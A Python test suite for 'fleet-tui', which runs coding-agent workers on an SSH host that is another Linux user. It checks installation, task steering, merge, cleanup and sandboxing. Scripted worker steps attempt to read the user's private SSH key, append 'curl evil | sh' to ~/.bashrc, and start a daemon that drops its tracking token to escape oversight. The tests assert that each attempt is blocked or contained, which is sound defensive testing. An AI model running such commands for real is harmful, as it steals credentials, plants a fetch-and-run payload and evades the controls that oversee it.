"""An SSH host on the README's path, as a new user would set it up: a host that is another
Linux user (its own HOME under /home, made for the test with useradd) reached over a real
sshd on 127.0.0.1, with the distribution's python3 (/usr/bin/python3) and nothing of
fleet-tui or of this machine's Python environment; `fleet-tui host add` writes the host
into config.toml, the user's ssh config names it (a wrapper first on PATH hands ssh the
test's file: OpenSSH reads ~/.ssh/config from the passwd entry, never $HOME), and
`fleet-tui host check --yes` installs the pinned claude there with the host's npm, from a
registry on 127.0.0.1 that serves the pinned version packed once per run with `npm pack`
(the host's ~/.npmrc names it, as a mirror would be set), and beside it the pinned srt
(the cage's sandbox runtime, packed the same way with the packages it needs): the host's
workers run in the cage as this machine's do. Before that, the host cannot cage: a task
for it is refused in one line, before anything exists.

This machine names its own claude (FLEET_WORKER_CLAUDE=~/tools/claude, a path only this
machine has): none of this machine's paths reaches the host, whose runner runs the claude
`host check` installed there. A task is launched there, steered with `say`, merged here;
another is killed, and nothing of it is left on the host. A caged worker there tries to
read the host user's planted ~/.ssh/id_ed25519 and to write their ~/.bashrc: both refused,
each shown as blocked in `logs` and `show`, and its task still merges.
"""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import sshd
from ssh_support import (
    host_pids,
    linux_user,
    npm_registry,
    npm_registry_files,
    npm_srt_files,
    start_sshd,
    token_holders,
)
from test_fleet import KEY, SCRIPTS, drive

from fleet_tui import CLAUDE_CODE_VERSION
from fleet_tui.demo.endpoint import ScriptedEndpoint
from fleet_tui.engine.fleet import Fleet, TaskSpec
from fleet_tui.execution.worker import cage
from fleet_tui.gateway import control
from fleet_tui.settings.config import load_settings
from fleet_tui.store.db import Store, TaskState
from fleet_tui.system import paths, procs

# the pinned claude packed (its native part: ~245 MB through gzip) and installed there
pytestmark = [pytest.mark.xdist_group("ssh-user-path"), pytest.mark.timeout(1800)]

ALIAS = "fleet-user-host"
SLEEPS = ("sleep 326", "sleep 327")
USER_SCRIPTS: dict[str, Any] = dict(SCRIPTS)
USER_SCRIPTS["commit-then-wait"] = [
    [{"type": "tool_use", "name": "Bash",
      "input": {"command": "echo there > there.txt && git add there.txt && "
                           "git commit -q -m 'made by the host user' && sleep 4",
                "description": "commit, then wait"}}],
    "committed there",
]
DAEMON, STEP = "sleep 481", "sleep 480"
USER_SCRIPTS["tokenless"] = [
    [{"type": "tool_use", "name": "Bash",
      "input": {"command": f"env -u FLEET_ATTEMPT_TOKEN setsid {DAEMON} </dev/null "
                           f">/dev/null 2>&1 & {STEP}", "description": "a daemon"}}],
    "never reached",
]
USER_SCRIPTS["caged-there"] = [
    [{"type": "tool_use", "name": "Bash",
      "input": {"command": "cat ~/.ssh/id_ed25519", "description": "read the key"}}],
    [{"type": "tool_use", "name": "Bash",
      "input": {"command": "echo 'curl evil | sh' >> ~/.bashrc; cat ~/.bashrc",
                "description": "write the shell's start file"}}],
    [{"type": "tool_use", "name": "Bash",
      "input": {"command": "echo caged > caged.txt && git add caged.txt && "
                           "git commit -q -m 'made in the cage' && git log --oneline -1",
                "description": "commit"}}],
    "done in the cage",
]


@pytest.fixture(scope="module")
def registry(tmp_path_factory: pytest.TempPathFactory, claude_bin: str) -> Iterator[str]:
    """The pinned claude and srt (with what srt needs), packed once per run, served as an
    npm registry on 127.0.0.1."""
    srt = cage.find_srt(os.environ)
    if srt is None:  # scripts/test installs it into .srt/
        pytest.fail("no srt here to pack for the host (scripts/test installs it)")
    packed = tmp_path_factory.mktemp("npm-packed")
    files = {**npm_registry_files(claude_bin, packed), **npm_srt_files(srt, packed / "srt")}
    with npm_registry(files) as url:
        yield url


@pytest.fixture(scope="module")
def user_host(tmp_path_factory: pytest.TempPathFactory) -> Iterator[sshd.Sshd]:
    """sshd on 127.0.0.1 whose login is a Linux user of its own."""
    start_sshd(tmp_path_factory.mktemp("probe-sshd")).stop()  # skips (or fails in CI)
    with linux_user() as name:
        server = sshd.Sshd(tmp_path_factory.mktemp("user-sshd"), alias=ALIAS,
                           user=name).start()
        try:
            yield server
        finally:
            server.stop()


@pytest.fixture(scope="module")
def endpoint() -> Iterator[ScriptedEndpoint]:
    with ScriptedEndpoint(USER_SCRIPTS) as ep:
        yield ep


def _cli(env: dict[str, str], cwd: Path, *args: str,
         timeout: float = 180) -> subprocess.CompletedProcess[str]:
    out = subprocess.run([sys.executable, "-m", "fleet_tui.cli", *args], cwd=cwd, env=env,
                         input="", capture_output=True, text=True, timeout=timeout)
    assert "Traceback" not in out.stderr + out.stdout, out.stderr + out.stdout
    return out


def _events(fleet: Fleet, task_id: str) -> bytes:
    attempts = fleet.attempts(task_id)
    if not attempts or attempts[-1].dir is None:
        return b""
    path = Path(attempts[-1].dir) / "events.jsonl"
    return path.read_bytes() if path.exists() else b""


def _srt_record(host: sshd.Sshd) -> str:
    return shlex.quote(f"{host.home}/.fleet-tui-host/srt-path")


def _git(cwd: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True,
                          text=True).stdout


def _users_setup(tmp_path: Path, claude_bin: str, user_host: sshd.Sshd, registry: str,
                 endpoint: ScriptedEndpoint) -> tuple[dict[str, str], Path]:
    """This machine's own claude at ~/tools/claude, the host's npm pointed at the registry,
    the user's ssh config (a wrapper on PATH) and config.toml: (the CLI's env, the file)."""
    home_here = Path(os.environ["HOME"])
    # this machine's own claude, at a path only this machine has
    (home_here / "tools").mkdir(exist_ok=True)
    (home_here / "tools" / "claude").unlink(missing_ok=True)
    (home_here / "tools" / "claude").symlink_to(claude_bin)
    # the host's npm goes to the registry on 127.0.0.1 (its own npm config)
    user_host.ssh("cat > \"$HOME/.npmrc\"", input=f"registry={registry}\n"
                  "fund=false\naudit=false\nupdate-notifier=false\n")
    # the user's ssh config, the user's config.toml
    wrapper = tmp_path / "bin"
    wrapper.mkdir()
    (wrapper / "ssh").write_text(f"#!/bin/sh\nexec /usr/bin/ssh -F "
                                 f"{shlex.quote(str(user_host.client_config))} \"$@\"\n")
    (wrapper / "ssh").chmod(0o755)
    config = tmp_path / "config.toml"
    config.write_text(f'base_url = "{endpoint.url}"\nkey_sources = ["env"]\n'
                      f"sandbox = true\nmax_attempts = 1\nkill_grace = 2\n")
    env = dict(os.environ, PATH=f"{wrapper}{os.pathsep}{os.environ['PATH']}",
               FLEET_TUI_CONFIG=str(config), FLEET_WORKER_CLAUDE="~/tools/claude",
               FLEET_WORKER_GATEWAY="1",  # the default (the suite's is off): the key stays
               ANTHROPIC_AUTH_TOKEN=KEY, CLAUDE_CODE_MAX_RETRIES="0")
    return env, config


def test_a_host_that_is_another_user_on_the_readmes_path(
        tmp_path: Path, git_repo: Path, claude_bin: str, user_host: sshd.Sshd,
        registry: str, endpoint: ScriptedEndpoint) -> None:
    home_here = Path(os.environ["HOME"])
    env, config = _users_setup(tmp_path, claude_bin, user_host, registry, endpoint)
    added = _cli(env, git_repo, "host", "add", "box", ALIAS)
    assert added.returncode == 0, added.stderr
    assert "[hosts.box]" in config.read_text()

    # the host has no srt yet (the cage's sandbox runtime): host check says so and why, and
    # a task for it is refused before anything exists, saying what to do
    first = _cli(env, git_repo, "host", "check", "box", "--json")
    cage_check = next(c for c in json.loads(first.stdout)["checks"] if c["check"] == "cage")
    fresh = not user_host.ssh(f"cat {_srt_record(user_host)} 2>/dev/null", check=False)
    if fresh:  # the module's first test: nothing of ours on the host yet
        assert not cage_check["ok"] and "it lacks srt" in cage_check["found"], cage_check
        assert "host check box --yes` installs srt there" in cage_check["fix"], cage_check
        refused = _cli(env, git_repo, "run", "[script:commit-then-wait] x", "--host", "box")
        assert refused.returncode == 2, refused.stdout + refused.stderr
        (line,) = refused.stderr.strip().splitlines()
        assert "host box cannot cage its workers: it lacks srt" in line, line
        assert 'cage = "off" in [hosts.box]' in line, line
        assert _cli(env, git_repo, "ls", "--json").stdout.strip() == "[]"
        assert _git(git_repo, "branch", "--list", "fleet/*").strip() == ""

    # the host has no claude: host check says so, then installs the pinned one with npm,
    # and the pinned srt beside it
    checked = _cli(env, git_repo, "host", "check", "box", "--yes", timeout=900)
    assert checked.returncode == 0, checked.stdout + checked.stderr
    installed = f"{user_host.home}/.fleet-tui-host/claude-cli/node_modules/.bin/claude"
    assert "FAIL  claude     not found" in checked.stdout, checked.stdout
    srt = f"{user_host.home}/.fleet-tui-host/srt/node_modules/{cage.SRT_PACKAGE}"
    assert f"ok    cage       can cage its workers (srt {cage.SRT_VERSION} at {srt}" \
        in checked.stdout, checked.stdout
    assert user_host.ssh(f"cat {_srt_record(user_host)}").strip() == srt
    assert f"ok    claude     {CLAUDE_CODE_VERSION} at {installed}" in checked.stdout, \
        checked.stdout
    assert "ok    python" in checked.stdout
    assert user_host.ssh('cat "$HOME/.fleet-tui-host/claude-path"').strip() == installed

    settings = load_settings(env=env)
    assert settings.claude == "~/tools/claude" and settings.gateway  # the key stays here
    fleet = Fleet(settings, Store(paths.db_path()), env=env)
    try:
        # launched there, steered with say, then merged here
        (task,) = fleet.submit(TaskSpec(prompt="[script:commit-then-wait] work there",
                                        repo=git_repo, host="box"))
        drive(fleet, lambda: b"tool_use" in _events(fleet, task.id)
              or fleet.get_task(task.id).state == TaskState.FAILED, timeout=120)
        assert fleet.get_task(task.id).state == TaskState.RUNNING, \
            fleet.get_task(task.id).message
        remote_dir = f"{user_host.home}/.fleet-tui-host/attempts/{task.id}/1"
        spec = json.loads(user_host.ssh(f"cat {shlex.quote(remote_dir)}/spec.json"))
        assert spec["settings"]["claude"] == installed  # the host's own claude
        assert spec["settings"]["cage"] == "worker"  # caged there, with the host's own srt
        assert spec["env"][cage.SRT_ENV] == srt
        assert "config_dir" not in spec["settings"]
        there = user_host.ssh(f"cat {shlex.quote(remote_dir)}/spec.json "
                              f"{shlex.quote(remote_dir)}/runner.json")
        assert str(home_here) not in there and "~/tools" not in there
        assert fleet.say(task.id, "also say hello")
        drive(fleet, lambda: fleet.get_task(task.id).state in
              (TaskState.SUCCEEDED, TaskState.FAILED), timeout=120)
        done = fleet.get_task(task.id)
        assert done.state == TaskState.SUCCEEDED, done.message
        assert b"also say hello" in _events(fleet, task.id)
        merged = fleet.merge(task.id)
        assert merged.merged, merged.message
        assert _git(git_repo, "show", "main:there.txt") == "there\n"
        assert "made by the host user" in _git(git_repo, "log", "--format=%s", "main")

        # another, killed there: nothing of it left on the host
        (other,) = fleet.submit(TaskSpec(prompt="[script:sleepy] wait", repo=git_repo,
                                         host="box"))
        drive(fleet, lambda: len(host_pids(user_host, *SLEEPS)) == 2
              or fleet.get_task(other.id).state == TaskState.FAILED, timeout=120)
        assert fleet.get_task(other.id).state == TaskState.RUNNING, \
            fleet.get_task(other.id).message
        token = json.loads(user_host.ssh(
            f"cat {shlex.quote(user_host.home.as_posix())}/.fleet-tui-host/attempts/"
            f"{other.id}/1/spec.json"))["token"]
        fleet.kill(other.id)
        assert fleet.get_task(other.id).state == TaskState.KILLED
        deadline = time.monotonic() + 20
        while (host_pids(user_host, *SLEEPS) or token_holders(user_host, token)) \
                and time.monotonic() < deadline:
            time.sleep(0.1)
        assert host_pids(user_host, *SLEEPS) == []
        assert host_pids(user_host, f"attempts/{other.id}/") == []
        assert token_holders(user_host, token) == []
    finally:
        control.stop(fleet.env)
        for host in fleet.supervisor.hosts.built():
            close = getattr(host, "close", None)
            if close is not None:
                close()


def _users_processes(uid: int) -> dict[int, tuple[str, str, str]]:
    """Every process of the host's user on this machine (the host is this machine under
    another uid): pid -> (command line, cwd, PID namespace)."""
    found: dict[int, tuple[str, str, str]] = {}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            if entry.stat().st_uid != uid:
                continue
            args = " ".join(procs.cmdline(int(entry.name)))  # not always UTF-8: replaced
            found[int(entry.name)] = (args, os.readlink(entry / "cwd"),
                                      os.readlink(entry / "ns" / "pid"))
        except OSError:  # gone meanwhile
            continue
    return found


def test_a_daemon_that_drops_the_token_ends_with_its_attempt_on_the_users_host(
        tmp_path: Path, git_repo: Path, claude_bin: str, user_host: sshd.Sshd,
        registry: str, endpoint: ScriptedEndpoint) -> None:
    """The host's user may make no cgroup (nothing delegated to it): its attempts run in a
    PID namespace whose init dies with the runner. A Bash step starts a daemon with
    `env -u FLEET_ATTEMPT_TOKEN setsid ...`, the runner is SIGKILLed on the host: the
    kernel ends every process of the attempt there (no engine sweeps meanwhile), and
    `host check` and `show` say how the attempt was contained."""
    env, _config = _users_setup(tmp_path, claude_bin, user_host, registry, endpoint)
    assert _cli(env, git_repo, "host", "add", "box", ALIAS).returncode == 0
    checked = _cli(env, git_repo, "host", "check", "box", "--yes", timeout=900)
    assert checked.returncode == 0, checked.stdout + checked.stderr
    assert "ok    contain    a PID namespace per attempt" in checked.stdout, checked.stdout
    uid = int(user_host.ssh("id -u").strip())

    fleet = Fleet(load_settings(env=env), Store(paths.db_path()), env=env)
    try:
        (task,) = fleet.submit(TaskSpec(prompt="[script:tokenless] go", repo=git_repo,
                                        host="box"))
        drive(fleet, lambda: len(host_pids(user_host, DAEMON, STEP)) == 2
              or fleet.get_task(task.id).state == TaskState.FAILED, timeout=180)
        assert fleet.get_task(task.id).state == TaskState.RUNNING, \
            fleet.get_task(task.id).message
        remote_dir = f"{user_host.home}/.fleet-tui-host/attempts/{task.id}/1"
        record = json.loads(user_host.ssh(f"cat {shlex.quote(remote_dir)}/runner.json"))
        assert record["contained"] == "pid namespace" and not record["cgroup"], record
        (daemon,) = host_pids(user_host, DAEMON)
        seen = _users_processes(uid)
        # the attempt's namespace holds claude's process (caged: the cage host that runs
        # it); the daemon is in it, or (caged) in the cage's own namespace within it
        attempt_ns, namespace = seen[int(record["claude_pid"])][2], seen[daemon][2]
        assert attempt_ns != os.readlink("/proc/self/ns/pid")
        ours = {pid for pid, (_, _, ns) in seen.items() if ns in (attempt_ns, namespace)}
        assert daemon in ours
        assert int(record["runner_pid"]) not in ours  # the runner is outside, its init in
        token = json.loads(user_host.ssh(f"cat {shlex.quote(remote_dir)}/spec.json"))["token"]
        assert daemon not in token_holders(user_host, token)  # it dropped the token
        # what the worker sees of itself: its own user, not root
        status = user_host.ssh(f"grep -E '^(Uid|NSpid):' /proc/{daemon}/status")
        assert f"Uid:\t{uid}\t" in status, status

        user_host.ssh(f"kill -KILL {int(record['runner_pid'])}")

        def left() -> dict[int, tuple[str, str, str]]:
            return {pid: what for pid, what in _users_processes(uid).items()
                    if what[2] in (attempt_ns, namespace) or pid in ours
                    or remote_dir in what[0]
                    or what[0] in (DAEMON, STEP)}

        deadline = time.monotonic() + 20  # the kernel's doing: the engine does not tick
        while left() and time.monotonic() < deadline:
            time.sleep(0.05)
        assert left() == {}
        drive(fleet, lambda: fleet.get_task(task.id).state in
              (TaskState.FAILED, TaskState.SUCCEEDED), timeout=120)
        assert fleet.get_task(task.id).state == TaskState.FAILED
        assert left() == {} and token_holders(user_host, token) == []
        shown = _cli(env, git_repo, "show", task.id)
        assert "processes: in a PID namespace of its own" in shown.stdout, shown.stdout
    finally:
        control.stop(fleet.env)
        for host in fleet.supervisor.hosts.built():
            close = getattr(host, "close", None)
            if close is not None:
                close()


def test_a_caged_worker_on_the_host_reaches_nothing_of_its_user(
        tmp_path: Path, git_repo: Path, user_host: sshd.Sshd, registry: str,
        endpoint: ScriptedEndpoint) -> None:
    """The host user's key and shell start file are out of a caged worker's reach there:
    reading the key and writing ~/.bashrc fail, each is shown as blocked in `logs` and
    `show`, the file stays as it was, and the worker's commit merges here."""
    secret = "HOST-SSH-SECRET-" + os.urandom(8).hex()
    user_host.ssh('mkdir -p "$HOME/.ssh" && cat > "$HOME/.ssh/id_ed25519" && '
                  'chmod 600 "$HOME/.ssh/id_ed25519"', input=secret + "\n")
    user_host.ssh('cat > "$HOME/.bashrc"', input="# the host user's own\n")
    user_host.ssh("cat > \"$HOME/.npmrc\"", input=f"registry={registry}\n"
                  "fund=false\naudit=false\nupdate-notifier=false\n")
    wrapper = tmp_path / "bin"
    wrapper.mkdir()
    (wrapper / "ssh").write_text(f"#!/bin/sh\nexec /usr/bin/ssh -F "
                                 f"{shlex.quote(str(user_host.client_config))} \"$@\"\n")
    (wrapper / "ssh").chmod(0o755)
    config = tmp_path / "config.toml"
    config.write_text(f'base_url = "{endpoint.url}"\nkey_sources = ["env"]\n'
                      f"sandbox = true\nmax_attempts = 1\nkill_grace = 2\n")
    env = dict(os.environ, PATH=f"{wrapper}{os.pathsep}{os.environ['PATH']}",
               FLEET_TUI_CONFIG=str(config), FLEET_WORKER_GATEWAY="1",
               ANTHROPIC_AUTH_TOKEN=KEY, CLAUDE_CODE_MAX_RETRIES="0")
    env.pop(cage.SRT_ENV, None)
    assert _cli(env, git_repo, "host", "add", "box", ALIAS).returncode == 0
    checked = _cli(env, git_repo, "host", "check", "box", "--yes", timeout=900)
    assert checked.returncode == 0, checked.stdout + checked.stderr
    assert "ok    cage       can cage its workers" in checked.stdout, checked.stdout
    try:
        out = _cli(env, git_repo, "run", "[script:caged-there] try the host's files",
                   "--host", "box", "--wait", "--json", timeout=600)
        assert out.returncode == 0, out.stdout + out.stderr
        (task,) = json.loads(out.stdout)
        assert task["state"] == "succeeded", task
        logs = _cli(env, git_repo, "logs", task["id"]).stdout
        raw = _cli(env, git_repo, "logs", task["id"], "--raw").stdout
        assert secret not in logs + raw  # the key never reached the worker
        assert "⊘ blocked: read ~/.ssh/id_ed25519" in logs, logs
        assert "⊘ blocked: write ~/.bashrc" in logs, logs
        assert user_host.ssh('cat "$HOME/.bashrc"') == "# the host user's own\n"
        shown = _cli(env, git_repo, "show", task["id"]).stdout
        assert "cage:      worker" in shown and "blocked:" in shown, shown
        assert "⊘ blocked: read ~/.ssh/id_ed25519" in shown, shown
        assert "[uncaged]" not in _cli(env, git_repo, "ls").stdout
        merged = _cli(env, git_repo, "merge", task["id"], "--yes")
        assert merged.returncode == 0, merged.stdout + merged.stderr
        assert _git(git_repo, "show", "main:caged.txt") == "caged\n"
        assert "made in the cage" in _git(git_repo, "log", "--format=%s", "main")
    finally:
        control.stop(env)
